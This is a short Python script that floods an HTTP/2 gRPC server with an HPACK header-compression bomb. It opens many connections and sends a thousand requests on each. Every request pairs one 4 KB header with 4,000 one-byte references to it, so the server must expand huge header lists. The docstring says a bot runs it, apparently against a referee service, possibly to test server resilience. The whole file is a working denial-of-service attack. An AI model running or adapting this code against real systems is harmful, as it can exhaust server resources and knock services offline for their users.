"""Throw headers that repeat each other by reference at an HTTP/2 server, on many connections.

A bot runs this text, so it needs nothing but the standard library.
"""

import socket
import struct
import time


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame of HTTP/2 (RFC 9113, 4.1)."""
    head = struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream)
    return head + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return a header field that enters the receiver's table (RFC 7541, 6.2.1)."""
    return b"\x40" + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    out, length = b"\x7f", length - 127
    while length >= 128:
        out += bytes([length % 128 + 128])
        length //= 128
    return out + bytes([length]) + text


REQUEST = (
    b"\x83\x86"
    + literal(b":path", b"/referee.v1.RefereeService/Play")
    + literal(b":authority", b"x")
    + literal(b"content-type", b"application/grpc")
    + literal(b"te", b"trailers")
)
BOMB = literal(b"x", b"y" * 3900) + b"\xbe" * 4000
"""A field of 4 KB, then 4,000 references to it, of a byte each."""


def throw(address: str | tuple[str, int], *, seconds: float) -> int:
    """Open connections with a thousand calls each; return how many were opened."""
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    connections: list[socket.socket] = []
    opened = 0
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        try:
            one = socket.socket(family)
            one.settimeout(0.2)
            one.connect(address)
            opened += 1
            connections.append(one)
            one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, b""))
            for stream in range(1, 2001, 2):
                one.sendall(frame(1, 4, stream, REQUEST + BOMB))
        except OSError:
            if len(connections) > 100:
                for each in connections:
                    each.close()
                connections.clear()
    for each in connections:
        each.close()
    return opened
